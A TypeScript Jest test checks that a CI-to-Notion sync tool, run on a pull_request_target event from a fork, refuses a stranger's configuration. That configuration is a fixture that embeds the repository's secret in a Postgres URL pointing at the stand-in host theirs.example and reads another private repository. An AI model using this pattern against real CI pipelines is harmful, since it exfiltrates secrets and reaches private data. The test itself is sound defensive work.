import { expect, test } from "@jest/globals";
import { DATABASE, inWorkshop } from "./workshop.ts";

/** What whoever opened the pull request wrote: addresses of their own, and our secrets in them. */
const THEIRS = `version: 1
targets:
  rows:
    source: { postgres: { table: bolts, url: "postgres://a:\${OUR_SECRET}@theirs.example/x" } }
    database: ${DATABASE}
    key: name
    properties: { Name: { type: title, from: name } }
  weeks:
    source: { github-ci: { repository: acme/private } }
    database: ${DATABASE}
    key: week
    properties: { Name: { type: title, from: week } }
`;

const env = {
  GITHUB_ACTIONS: "true",
  GITHUB_REPOSITORY: "acme/bolts",
  GITHUB_EVENT_NAME: "pull_request_target",
  GITHUB_TOKEN: "ghs_ours",
  OUR_SECRET: "ours",
};

const event = {
  pull_request: {
    number: 7,
    user: { login: "eve-example" },
    head: { repo: { full_name: "eve-example/bolts" } },
    base: { repo: { full_name: "acme/bolts" } },
  },
};

test("a stranger's configuration reaches no database and no other repository with our secrets", async () => {
  const reached: string[] = [];
  const reach = (what: string): Promise<never> => {
    reached.push(what);
    return Promise.reject(new Error("nobody is there"));
  };
  const setup = {
    files: { "notion-sync.yml": THEIRS },
    notion: {},
    env,
    event,
    forge: { here: () => reach("this repository"), history: (name?: string) => reach(name ?? "") },
    postgres: reach,
  };
  await inWorkshop(setup, async (shop) => {
    const report = await shop.run({ comment: "never", "open-issue": "never" });
    expect(reached).toEqual([]);
    expect(report.exit).toBe(0);
    expect(report.problems.map(({ level }) => level)).not.toContain("error");
    expect(JSON.stringify(report)).not.toContain("ours");
  });
});
